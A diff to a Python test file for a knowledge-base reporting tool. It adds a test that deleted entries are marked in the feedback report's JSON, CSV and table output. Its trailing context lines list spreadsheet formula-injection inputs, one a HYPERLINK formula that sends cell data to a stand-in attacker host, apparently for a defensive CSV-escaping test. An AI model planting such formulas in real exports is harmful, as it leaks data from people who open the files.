@@ -130,6 +130,27 @@ def test_feedback_report_as_table_and_csv(database: str, capsys: Capture) -> Non
     assert (rows[0]["entry_id"], rows[0]["helpful_rate"]) == ("tax-property-pay", "0.333")
 
 
+def test_feedback_report_marks_an_entry_deleted_since(database: str, capsys: Capture) -> None:
+    """Staff must not go looking for an entry to improve that is no longer in the knowledge base."""
+    seeded(database)
+
+    async def delete_entry() -> None:
+        async with db.connected(database) as engine, db.sessionmaker(engine).begin() as session:
+            await KnowledgeRepository(session).delete_entry("tax-property-pay", "test")
+
+    asyncio.run(delete_entry())
+    assert main(["report", "feedback", "--format", "json"]) == 0
+    entries = json.loads(capsys.readouterr().out)["entries"]
+    assert [(e["entry_id"], e["deleted"]) for e in entries] == [
+        ("tax-property-pay", True), ("id-card-renew", False), ("id-card-lost", False),
+    ]
+    assert main(["report", "feedback", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [row["deleted"] for row in rows] == ["true", "false", "false"]
+    assert main(["report", "feedback"]) == 0
+    assert "(deleted) How do I pay my property tax?" in capsys.readouterr().out
+
+
 @pytest.mark.parametrize(
     "typed", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
 )
